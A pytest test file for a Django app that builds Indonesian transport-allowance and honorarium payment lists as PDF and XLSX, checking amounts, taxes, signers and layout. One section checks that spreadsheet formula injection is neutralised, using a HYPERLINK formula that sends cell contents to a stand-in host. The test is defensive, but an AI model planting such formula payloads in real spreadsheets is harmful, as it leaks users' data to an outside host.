"""The SPJ lists: uang transport per day and honorarium, as PDF and XLSX."""

import datetime as dt
import io
import re
from decimal import Decimal

import pdfplumber
import pytest
from django.core.exceptions import ValidationError
from openpyxl import load_workbook

from bodies.models import SecretariatOfficial
from events.models import AgendaItem, AllowanceLine, CostStandard, Speaker
from reports.documents import DocumentError, build_document
from reports.documents.honorarium import data as honorarium_data
from reports.documents.uang_transport import data as transport_data
from reports.tests.r2_world import build_world, register
from reports.words import number_in_words, rupiah_in_words

Kind = AllowanceLine.Kind


@pytest.fixture
def world(db):
    world = build_world()
    SecretariatOfficial.objects.create(
        office=world.kpu, role="ppk", name="Pejabat <b>Komitmen</b>", nip="198203112009011004"
    )
    SecretariatOfficial.objects.create(
        office=world.kpu, role="bendahara", name="Bendahara Uji", nip="199005202015032007"
    )
    AllowanceLine.objects.create(event=world.event, kind=Kind.TRANSPORT, body_kind="PPS",
                                 amount=Decimal(150_000))  # fmt: skip
    return world


def pdf_text(pdf: bytes) -> str:
    with pdfplumber.open(io.BytesIO(pdf)) as document:
        return " ".join(" ".join((page.extract_text() or "") for page in document.pages).split())


def amount(text: str) -> int:
    return int(text.replace(".", ""))


# --- Uang transport


def test_transport_lists_the_verified_present_with_their_amount_total_and_words(world):
    paid = register(world, unit=world.pps[0], full_name="Ani Hadir", status="verified")
    register(world, unit=world.pps[1], full_name="Budi Belum", status="pending")
    register(world, unit=world.pps[2], full_name="Cici Absen", status="verified", present_days=0)
    register(world, unit=world.kpu, full_name="Staf KPU", status="verified")  # no KPU line

    document = build_document("uang-transport", event=world.event, day=1)
    text = pdf_text(document.pdf)

    assert "DAFTAR PENERIMAAN UANG TRANSPORT" in text
    assert paid.full_name in text and "150.000" in text
    for absent in ("Budi Belum", "Cici Absen", "Staf KPU"):
        assert absent not in text
    assert "Terbilang: Seratus lima puluh ribu rupiah" in text
    assert "Pejabat <b>Komitmen</b>" in text and "NIP. 198203112009011004" in text
    assert "Bendahara Uji" in text and "Senin, 11 November 2024" in text
    assert document.filename == "uang-transport-hari-1-kabupaten-uji-2024-11-11.pdf" or (
        document.filename.startswith("uang-transport-hari-1-")
    )


def test_transport_rows_add_up_to_the_total_and_its_words(world):
    AllowanceLine.objects.create(event=world.event, kind=Kind.POCKET_MONEY, amount=Decimal(75_500))
    AllowanceLine.objects.create(event=world.event, kind=Kind.TRANSPORT, amount=Decimal(200_000))
    for unit in world.pps:
        register(world, unit=unit, status="verified")
    register(world, unit=world.kpu, status="verified")

    context = transport_data(event=world.event, paper="A4", day=1)

    rows = context["rows"]
    assert [row["total"] for row in rows] == [Decimal(275_500)] + [Decimal(225_500)] * 3
    assert all(row["total"] == sum(row["amounts"]) for row in rows)
    assert context["total"] == sum(row["total"] for row in rows) == Decimal(952_000)
    assert context["column_totals"] == [Decimal(650_000), Decimal(302_000)]
    text = pdf_text(build_document("uang-transport", event=world.event, day=1).pdf)
    assert "DAFTAR PENERIMAAN UANG TRANSPORT DAN UANG SAKU" in text
    assert "952.000" in text and "302.000" in text
    assert "Terbilang: Sembilan ratus lima puluh dua ribu rupiah" in text


def test_transport_signature_places_are_staggered_as_in_the_daftar_hadir(world):
    for unit in world.pps:
        register(world, unit=unit, status="verified")
    pdf = build_document("uang-transport", event=world.event, day=1).pdf
    with pdfplumber.open(io.BytesIO(pdf)) as document:
        # The last row goes over with the signers when they do not fit under the list.
        words = [word for page in document.pages for word in page.extract_words()]
    places = {w["text"].rstrip("."): w["x0"] for w in words if re.fullmatch(r"[123]\.", w["text"])}
    assert places["2"] > places["1"] + 5 and places["3"] < places["2"] - 5


def test_transport_xlsx_holds_the_same_rows_and_total_as_formulas(world):
    for unit in world.pps:
        register(world, unit=unit, status="verified")

    document = build_document("uang-transport", event=world.event, day=1, format="xlsx")

    assert document.filename.endswith(".xlsx")
    sheet = load_workbook(io.BytesIO(document.pdf)).active
    people = [row for row in sheet.iter_rows() if isinstance(row[0].value, int)]
    total = next(row for row in sheet.iter_rows() if row[1].value == "Jumlah")
    assert [row[4].value for row in people] == [150_000] * 3
    first, last = people[0][0].row, people[-1][0].row
    assert total[4].value == f"=SUM(E{first}:E{last})" and total[4].data_type == "f"
    assert any(str(row[0]).startswith("Terbilang: Empat ratus lima puluh ribu") for row in
               sheet.iter_rows(values_only=True) if row[0])  # fmt: skip


def test_transport_xlsx_of_several_kinds_sums_each_row_with_a_formula(world):
    AllowanceLine.objects.create(event=world.event, kind=Kind.POCKET_MONEY, amount=Decimal(75_500))
    register(world, unit=world.pps[0], status="verified")

    document = build_document("uang-transport", event=world.event, day=1, format="xlsx")

    sheet = load_workbook(io.BytesIO(document.pdf)).active
    row = next(row for row in sheet.iter_rows() if row[0].value == 1)
    n = row[0].row
    assert [row[4].value, row[5].value, row[6].value] == [150_000, 75_500, f"=E{n}+F{n}"]


def test_transport_non_cash_list_has_the_account_columns_and_the_heads(world):
    world.event.transport_account_code = "524113"
    world.event.funding_source = "Hibah NPHD Pilkada 2024"
    world.event.save()
    ani = register(world, unit=world.pps[0], full_name="Ani Hadir", status="verified")
    ani.bank_name, ani.account_number, ani.account_holder = "Bank Jambi", "2001000150901", "Ani H."
    ani.save()

    document = build_document("uang-transport-non-tunai", event=world.event, day=1)
    text = pdf_text(document.pdf)
    sheet = load_workbook(io.BytesIO(build_document(
        "uang-transport-non-tunai", event=world.event, day=1, format="xlsx").pdf)).active  # fmt: skip

    assert "DAFTAR NOMINATIF PEMBAYARAN NON TUNAI UANG TRANSPORT" in text
    assert "Bank Jambi 2001000150901 Ani H." in text and "Tanda Tangan" not in text
    assert "Kode Akun/MAK : 524113" in text and "Sumber Dana : Hibah NPHD Pilkada 2024" in text
    values = [cell.value for row in sheet.iter_rows() for cell in row]
    assert "2001000150901" in values and "Nomor Rekening" in values


def test_a_transport_line_takes_the_office_figure_of_the_year_then_the_national_one(world):
    world.event.allowance_lines.update(amount=None, standard=CostStandard.Item.TRANSPORT_LOCAL)
    register(world, unit=world.pps[0], status="verified")
    with pytest.raises(DocumentError, match="Standar biaya belum memiliki besaran"):
        transport_data(event=world.event, paper="A4", day=1)

    CostStandard.objects.create(year=2024, item="transport_local", amount=Decimal(110_000),
                                source="uji")  # fmt: skip
    assert transport_data(event=world.event, paper="A4", day=1)["total"] == Decimal(110_000)
    CostStandard.objects.create(office=world.kpu, year=2024, item="transport_local",
                                amount=Decimal(130_000), source="uji")  # fmt: skip
    CostStandard.objects.create(office=world.kpu, year=2023, item="transport_local",
                                amount=Decimal(999_000), source="uji")  # fmt: skip
    assert transport_data(event=world.event, paper="A4", day=1)["total"] == Decimal(130_000)


def test_transport_without_a_transport_line_is_refused_clearly(world):
    world.event.allowance_lines.all().delete()
    with pytest.raises(DocumentError, match="belum memiliki besaran uang transport"):
        build_document("uang-transport", event=world.event, day=1)


def test_transport_of_a_day_nobody_verified_attended_is_refused(world):
    register(world, unit=world.pps[0], status="pending")
    with pytest.raises(DocumentError, match="hari ke-1"):
        build_document("uang-transport", event=world.event, day=1)


def test_transport_data_costs_the_same_queries_for_one_or_many(world, django_assert_num_queries):
    for unit in world.pps:
        register(world, unit=unit, status="verified")
    # lines, cost standards, participants (units joined), the two officials
    with django_assert_num_queries(4):
        transport_data(event=world.event, paper="A4", day=1)


# --- Honorarium


@pytest.fixture
def speakers(world):
    # Rates from the shipped cost standards of 2024 (PMK 49/2023): Eselon III and
    # below Rp900.000 per hour. Both non-civil servants with an NPWP: PPh 21 on 50 %
    # of the gross at 5 % (PMK 168/2023), i.e. 2.5 % of the gross.
    desi = Speaker.objects.create(event=world.event, name="Desi Arianto", background="Pemateri")
    budi = Speaker.objects.create(event=world.event, name="Budi <i>Dua</i>", order=2)
    Speaker.objects.create(event=world.event, name="Tanpa Sesi", order=3)
    day = world.event.first_day
    for speaker, start, end in [(desi, (13, 0), (16, 0)), (budi, (8, 0), (9, 30)),
                                (budi, (10, 0), (10, 20))]:  # fmt: skip
        AgendaItem.objects.create(event=world.event, day=day, start_time=dt.time(*start),
                                  end_time=dt.time(*end), session="Sesi", speaker=speaker)  # fmt: skip
    return desi, budi


def test_honorarium_gross_minus_tax_is_net_per_row_and_in_total(world, speakers):
    context = honorarium_data(event=world.event, paper="A4")

    rows = context["rows"]
    assert [r["name"] for r in rows] == ["Desi Arianto", "Budi <i>Dua</i>"]
    # 3 h x 900.000; 1 h 50 min x 900.000 = 1.650.000
    assert [r["gross"] for r in rows] == [Decimal(2_700_000), Decimal(1_650_000)]
    # 2.5 % of each: 67.500 and 41.250
    assert [r["tax"] for r in rows] == [Decimal(67_500), Decimal(41_250)]
    assert all(r["gross"] - r["tax"] == r["net"] for r in rows)
    totals = context["totals"]
    for key in ("gross", "tax", "net"):
        assert totals[key] == sum(r[key] for r in rows)
    assert totals["gross"] - totals["tax"] == totals["net"] == Decimal(4_241_250)
    assert context["total_words"] == (
        "Empat juta dua ratus empat puluh satu ribu dua ratus lima puluh rupiah"
    )


def test_honorarium_pdf_prints_names_amounts_heads_total_and_words(world, speakers):
    world.event.funding_source = "DIPA KPU Kabupaten Uji TA 2024"
    world.event.honorarium_account_code = "522151"
    world.event.payment_basis = "Undangan Nomor 12/PP.06-Und/1509/2024"
    world.event.save()

    text = pdf_text(build_document("honorarium", event=world.event).pdf)

    assert "DAFTAR PENERIMAAN HONORARIUM NARASUMBER" in text
    assert "Budi <i>Dua</i>" in text and "Tanpa Sesi" not in text
    for figure in ("2.700.000", "67.500", "2.632.500", "1.650.000", "41.250", "1.608.750",
                   "4.350.000", "108.750", "4.241.250", "900.000"):  # fmt: skip
        assert figure in text
    for head in ("Kode Akun/MAK : 522151", "Sumber Dana : DIPA KPU Kabupaten Uji TA 2024",
                 "Dasar : Undangan Nomor 12/PP.06-Und/1509/2024", "Nomor Bukti :"):  # fmt: skip
        assert head in text
    assert "Terbilang (jumlah diterima): Empat juta dua ratus empat puluh satu ribu" in text
    assert "12 November 2024" in text  # signed on the last day by default


def test_honorarium_xlsx_computes_every_figure_with_formulas(world, speakers):
    document = build_document("honorarium", event=world.event, format="xlsx")
    sheet = load_workbook(io.BytesIO(document.pdf)).active
    rows = [row for row in sheet.iter_rows() if isinstance(row[0].value, int)]
    total = next(row for row in sheet.iter_rows() if row[1].value == "Jumlah")

    assert [row[5].value for row in rows] == [900_000, 900_000]
    for row in rows:  # gross, tax, net
        assert [cell.data_type for cell in row[6:9]] == ["f", "f", "f"]
        assert row[6].value == f"=ROUND(E{row[0].row}*F{row[0].row},0)"
        assert row[8].value == f"=G{row[0].row}-H{row[0].row}"
        assert row[6].number_format == "#,##0"
    first, last = rows[0][0].row, rows[-1][0].row
    assert [cell.value for cell in total[6:9]] == [f"=SUM({c}{first}:{c}{last})" for c in "GHI"]
    assert sheet.freeze_panes == f"A{first}"
    assert sheet.print_title_rows == f"${first - 1}:${first - 1}"
    assert sheet.page_setup.orientation == "landscape" and sheet.page_setup.paperSize == 9
    assert sheet.column_dimensions["I"].width >= len("4,241,250")
    values = [cell.value for row in sheet.iter_rows() for cell in row if cell.value]
    assert "Pejabat Pembuat Komitmen" in values and "Bendahara Pengeluaran" in values
    assert "NIP. 198203112009011004" in values


def test_honorarium_without_a_cost_standard_for_the_year_is_refused_clearly(world, speakers):
    CostStandard.objects.filter(year=2024, office__isnull=True).delete()
    with pytest.raises(DocumentError, match="Standar biaya belum memiliki besaran"):
        build_document("honorarium", event=world.event)


def test_honorarium_data_queries_are_pinned(world, speakers, django_assert_num_queries):
    # cost standards, speakers, their sessions, the two officials
    with django_assert_num_queries(4):
        honorarium_data(event=world.event, paper="A4")


def test_honorarium_queries_do_not_grow_with_speakers(world, speakers, django_assert_num_queries):
    for n in range(5):
        extra = Speaker.objects.create(event=world.event, name=f"Tambahan {n}", order=10 + n)
        AgendaItem.objects.create(event=world.event, day=world.event.first_day,
                                  start_time=dt.time(8), end_time=dt.time(9), session="S",
                                  speaker=extra)  # fmt: skip
    with django_assert_num_queries(4):
        honorarium_data(event=world.event, paper="A4")


def test_a_pdf_only_document_refuses_xlsx(world):
    with pytest.raises(DocumentError, match="PDF"):
        build_document("rekapitulasi", event=world.event, format="xlsx")


def test_amounts_in_words_say_seribu_for_a_lone_thousand():
    assert number_in_words(1_001_000) == "satu juta seribu"
    assert number_in_words(101_000) == "seratus satu ribu"
    assert rupiah_in_words(1_000) == "Seribu rupiah"


# --- Formula injection (issue #17, finding 4)

INJECTED = '=HYPERLINK("http://x/?"&B8&C8,"klik")'


def formula_cells(document) -> list[str]:
    sheet = load_workbook(io.BytesIO(document.pdf)).active
    return [cell.value for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def test_a_jabatan_typed_as_a_formula_stays_text_in_the_transport_xlsx(world):
    register(world, unit=world.pps[0], status="verified", position=INJECTED,
             full_name="=1+1")  # fmt: skip

    document = build_document("uang-transport", event=world.event, day=1, format="xlsx")

    sheet = load_workbook(io.BytesIO(document.pdf)).active
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row if cell.value}
    assert cells[INJECTED].data_type == "s" and cells["=1+1"].data_type == "s"
    assert all(value.startswith("=SUM(") for value in formula_cells(document))


def test_speaker_fields_and_the_title_typed_as_formulas_stay_text_in_the_honorarium_xlsx(
    world, speakers
):
    desi, _budi = speakers
    desi.name, desi.background = INJECTED, "=2+2"
    desi.bank_name, desi.account_number, desi.account_holder = "@x", "-1", "+1"
    desi.save()
    world.event.title = "=3+3"
    world.event.save(update_fields=["title"])

    for slug in ("honorarium", "honorarium-non-tunai"):
        document = build_document(slug, event=world.event, format="xlsx")
        formulas = formula_cells(document)
        assert not any("HYPERLINK" in value or value in ("=2+2", "=3+3") for value in formulas)
        # What is a formula is the arithmetic: ROUND, the net, the sums.
        assert all(value.startswith(("=ROUND(", "=SUM(", "=G")) for value in formulas)


# --- Honorarium per speaker: level, tax profile, internal speakers


def test_each_speaker_gets_the_rate_of_their_level_and_the_tax_of_their_profile(world, speakers):
    desi, budi = speakers
    desi.level, desi.tax_status, desi.grade = Speaker.Level.ESELON_II, "asn", "IV"
    desi.save()
    budi.has_npwp = False
    budi.save()

    rows = honorarium_data(event=world.event, paper="A4")["rows"]

    # Desi: 3 h x Rp1.000.000 (PMK 49/2023, Eselon II) = 3.000.000; ASN gol. IV, 15 % final
    # (PP 80/2010) = 450.000. Budi: 1 h 50 min x 900.000 = 1.650.000; non-ASN without an
    # NPWP: 50 % x 5 % x 120 % = 49.500.
    assert [(r["rate"], r["gross"], r["tax"]) for r in rows] == [
        (Decimal(1_000_000), Decimal(3_000_000), Decimal(450_000)),
        (Decimal(900_000), Decimal(1_650_000), Decimal(49_500)),
    ]
    assert rows[0]["tax_rule_text"] == "ASN gol. IV: final 15%"
    assert "tanpa NPWP" in rows[1]["tax_rule_text"]


def test_an_internal_speaker_is_flagged_and_unpaid_until_a_reason_is_recorded(world, speakers):
    desi, _budi = speakers
    desi.is_internal = True
    desi.save()

    row = honorarium_data(event=world.event, paper="A4")["rows"][0]
    assert row["unpaid"] and row["gross"] == row["tax"] == row["net"] == Decimal(0)
    assert "Internal (penyelenggara): tidak dibayar" in row["note"]
    # The note may wrap inside its cell, and text extraction reads a row's lines across
    # its cells: look for its words, not the phrase.
    text = pdf_text(build_document("honorarium", event=world.event).pdf)
    assert "(penyelenggara):" in text and "dibayar" in text

    desi.internal_pay_reason = "Narasumber mewakili KPU Provinsi atas penugasan"
    desi.save()
    row = honorarium_data(event=world.event, paper="A4")["rows"][0]
    assert not row["unpaid"] and row["gross"] == Decimal(2_700_000)
    assert "Internal, dibayar: Narasumber mewakili KPU Provinsi" in row["note"]


def test_a_rate_override_is_used_and_its_reason_printed(world, speakers):
    desi, _budi = speakers
    desi.rate_override, desi.rate_override_reason = Decimal(500_000), "Permintaan narasumber"
    desi.save()
    row = honorarium_data(event=world.event, paper="A4")["rows"][0]
    assert (
        row["gross"] == Decimal(1_500_000) and "Tarif khusus: Permintaan narasumber" in row["note"]
    )


def test_a_moderator_is_paid_per_session(world, speakers):
    desi, _budi = speakers
    desi.level = Speaker.Level.MODERATOR
    desi.save()
    # One session: 1 x Rp700.000 (PMK 49/2023, moderator per kali)
    row = honorarium_data(event=world.event, paper="A4")["rows"][0]
    assert (row["hours"], row["rate"], row["gross"]) == (
        Decimal(1),
        Decimal(700_000),
        Decimal(700_000),
    )


def test_an_office_figure_for_a_level_takes_precedence_over_the_national_one(world, speakers):
    CostStandard.objects.create(office=world.kpu, year=2024, item="hon_eselon_3",
                                amount=Decimal(800_000), source="uji")  # fmt: skip
    rows = honorarium_data(event=world.event, paper="A4")["rows"]
    assert [r["rate"] for r in rows] == [Decimal(800_000)] * 2


def test_the_non_cash_honorarium_list_prints_the_whole_account(world, speakers):
    desi, _budi = speakers
    desi.bank_name, desi.account_number, desi.account_holder = "BRI", "012301000150502", "Desi A."
    desi.save()
    text = pdf_text(build_document("honorarium-non-tunai", event=world.event).pdf)
    assert "DAFTAR NOMINATIF PEMBAYARAN NON TUNAI HONORARIUM NARASUMBER" in text
    assert "BRI 012301000150502 Desi A." in text and "Tanda Tangan" not in text
    cash = pdf_text(build_document("honorarium", event=world.event).pdf)
    assert "012301000150502" not in cash


def test_a_civil_servant_speaker_needs_a_golongan_and_an_override_a_reason(world):
    speaker = Speaker(event=world.event, name="X", tax_status="asn", rate_override=Decimal(1))
    with pytest.raises(ValidationError) as refused:
        speaker.full_clean()
    assert set(refused.value.message_dict) == {"grade", "rate_override_reason"}


def test_an_allowance_line_typed_by_hand_needs_its_reason(world):
    line = AllowanceLine(event=world.event, kind=Kind.POCKET_MONEY, amount=Decimal(10))
    with pytest.raises(ValidationError) as refused:
        line.full_clean()
    assert "override_reason" in refused.value.message_dict
    line = AllowanceLine(event=world.event, kind=Kind.POCKET_MONEY)
    with pytest.raises(ValidationError):
        line.full_clean()


def test_a_civil_servant_speaker_without_a_golongan_is_refused_clearly(world, speakers):
    desi, _budi = speakers
    Speaker.objects.filter(pk=desi.pk).update(tax_status="asn", grade="")
    with pytest.raises(DocumentError, match="Desi Arianto adalah ASN tanpa golongan"):
        build_document("honorarium", event=world.event)


def pages_text(pdf) -> list[str]:
    with pdfplumber.open(io.BytesIO(bytes(pdf))) as document:
        return [" ".join((page.extract_text() or "").split()) for page in document.pages]


def test_the_signers_never_stand_on_a_page_without_the_list(world):
    # However many speakers push the closing over the page's end, the last row and the
    # total go over with it: a bendahara files no page of signatures alone.
    day = world.event.first_day
    for count in range(1, 9):
        speaker = Speaker.objects.create(
            event=world.event,
            name=f"Narasumber {count}",
            background="Anggota KPU Provinsi, Divisi Sosdiklih, Parmas dan SDM " * 2,
            order=count,
        )
        AgendaItem.objects.create(event=world.event, day=day, start_time=dt.time(8, count),
                                  end_time=dt.time(9, count), session="Sesi", speaker=speaker)  # fmt: skip
        for document in ("honorarium", "honorarium-non-tunai"):
            pages = pages_text(build_document(document, event=world.event).pdf)
            closing = next(page for page in pages if "Lunas dibayar" in page)
            assert "Jumlah" in closing and re.search(r"\bNarasumber \d", closing), (
                document,
                count,
                len(pages),
            )
